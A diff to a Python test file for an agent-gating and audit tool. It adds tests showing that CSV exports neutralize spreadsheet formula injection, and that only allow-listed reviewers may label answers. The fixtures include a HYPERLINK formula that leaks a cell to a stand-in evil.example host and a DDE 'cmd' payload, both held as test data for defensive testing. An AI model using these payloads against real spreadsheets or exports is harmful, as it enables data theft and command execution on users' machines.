@@ -30,7 +30,7 @@ from vicar.gates import start_gate
 from vicar.models import GateResult
 from vicar.proxy.outcomes import INTERACTIONS_FILE
 from vicar.proxy.reviews import review_labels
-from vicar.responders import save_allowed
+from vicar.responders import change_allowed, save_allowed
 from vicar.schema import document
 from vicar.workflows.audit import AuditWorkflow, ReviewWorkflow
 from vicar.workflows.gate import GateWorkflow
@@ -38,6 +38,14 @@ from vicar.workflows.gate import GateWorkflow
 from .conftest import LOOSE_AUTONOMY, VicarHarness, vicar_process, wait_escalated
 from .test_deadline import Receiver
 from .test_gate import run_answering
+
+# Cells a spreadsheet would run as formulas (OWASP's CSV injection), as q's gate says them.
+FORMULAS = {
+    "question": '=HYPERLINK("http://evil.example/?leak="&A1,"Approve")',
+    "artifact_excerpt": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "words": "+Not this week.",
+}
+FORMULAS["artifact"] = FORMULAS["artifact_excerpt"]
 
 
 @dataclass
@@ -78,9 +86,10 @@ async def world(temporal_env, embedder, tmp_path_factory):
                 w.results[req.gate_id] = await run_answering(h, req)
             req = h.request(w.p, escalation_mode="always", deadline_seconds=2, artifact="Drop the users table.")
             w.results[req.gate_id] = await (await start_gate(h.client, req, task_queue)).result()
-            req = h.request(w.q, artifact="Add an index.")
+            # q's texts are what an agent or a person could write to attack a spreadsheet.
+            req = h.request(w.q, question=FORMULAS["question"], upstream_agent="ci-bot", artifact=FORMULAS["artifact"])
             w.q_gate = req.gate_id
-            await run_answering(h, req, action="reject", text="Not this week.")
+            await run_answering(h, req, action="reject", text=FORMULAS["words"])
             yield w
     finally:
         registry.close()
@@ -162,10 +171,48 @@ async def test_csv_since_and_every_principal(world):
     records = jsonl(out)
     assert {r.principal for r in records} == {w.p, w.q} and len(records) == len(w.results) + 1
     q = next(r for r in records if r.principal == w.q)
-    assert (q.gate_id, q.action, q.words, q.answered_by) == (w.q_gate, "reject", "Not this week.", "human")
+    assert (q.gate_id, q.action, q.words, q.answered_by) == (w.q_gate, "reject", FORMULAS["words"], "human")
+    assert (q.question, q.artifact_excerpt) == (FORMULAS["question"], FORMULAS["artifact_excerpt"])  # JSON: as said
     assert f"{len(records)} records of 2 principals" in err
+    # The CSV neutralizes them: a cell that starts with = + - @ (or a tab or CR) starts
+    # with a ' instead, which a spreadsheet shows as text; nothing else changes.
+    code, out, err = await vicar(w, "audit", "export", "--principal", w.q, "-o", "csv")
+    assert code == 0, err
+    (row,) = list(csv.DictReader(io.StringIO(out)))
+    assert {k: row[k] for k in FORMULAS if k != "artifact"} == {
+        k: "'" + v for k, v in FORMULAS.items() if k != "artifact"
+    }
+    assert row["upstream_agent"] == "ci-bot" and row["action"] == "reject"
+    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row.values() if cell), row
     code, _, err = await vicar(w, "audit", "export", "--principal", "nobody-here")
     assert code == NotFound.exit_code and err.startswith("error: ") and len(err.splitlines()) == 1, err
+
+
+def test_every_formula_start_is_neutralized_and_numbers_stay_numbers():
+    from vicar.audit_models import csv_text
+
+    for start in ("=", "+", "-", "@", "\t", "\r"):
+        assert csv_text(f"{start}1+1") == f"'{start}1+1"
+    assert csv_text("Fine: 1+1=2") == "Fine: 1+1=2" and csv_text("") == ""
+    record = AuditRecord(
+        principal="p",
+        gate_id="g-1",
+        workflow_id="vicar-gate/g-1",
+        kind="gate",
+        state="PLAN_ASSERT",
+        task_type="docs",
+        n=3,
+        question="-1+1",
+        answered_by="human",
+        escalated=True,
+        action="approve",
+        words="\t=cmd",
+        score=-0.5,
+        guards_fired=["=x"],
+    )
+    row = record.csv_row()
+    assert (row["question"], row["words"], row["score"], row["n"]) == ("'-1+1", "'\t=cmd", "-0.5", "3")
+    assert row["guards_fired"] == '["=x"]'  # JSON starts with [ : not a formula
 
 
 async def test_review_labels_an_autonomous_answer_and_a_wrong_one_is_overruled(world):
@@ -174,6 +221,14 @@ async def test_review_labels_an_autonomous_answer_and_a_wrong_one_is_overruled(w
     human = next(g for g, r in w.results.items() if r.answered_by.value == "human")
     timed_out = next(g for g, r in w.results.items() if r.timed_out)
     wrong, right = alone
+    # Closed by default (issue 34 item 12): with no allow-list, only the principal itself
+    # reviews; anyone else is let in by name (or all by --anyone), explicitly and logged.
+    for reviewer in ("mallory", "bob"):
+        code, _, err = await vicar(w, "review", wrong, "wrong", "--reviewer", reviewer)
+        assert code == Conflict.exit_code and len(err.splitlines()) == 1, err
+        assert f"{reviewer!r} may not review for {w.p} here: {w.p} has no allow-list" in err, err
+    assert review_labels(w.h.registry.get(w.p).store) == []
+    change_allowed(w.h.settings.principals_dir, w.p, "allow", ["bob", "carol"], by="operator")
     code, out, err = await vicar(w, "review", wrong, "wrong", "--note", "the guide was frozen", "--reviewer", "bob")
     assert code == 0, err
     assert "recorded" in out and "overruled" in out
@@ -195,7 +250,7 @@ async def test_review_labels_an_autonomous_answer_and_a_wrong_one_is_overruled(w
         assert code == NotReviewable.exit_code and len(err.splitlines()) == 1, err
     code, _, err = await vicar(w, "review", "no-such-gate", "wrong", "--reviewer", "bob")
     assert code == NotFound.exit_code and len(err.splitlines()) == 1, err
-    # The principal's allow-list decides who may review too.
+    # The principal's allow-list decides who may review.
     save_allowed(w.h.settings.principals_dir, w.p, ["alice"])
     code, _, err = await vicar(w, "review", right, "right", "--reviewer", "mallory")
     assert code == Conflict.exit_code and "mallory" in err, err
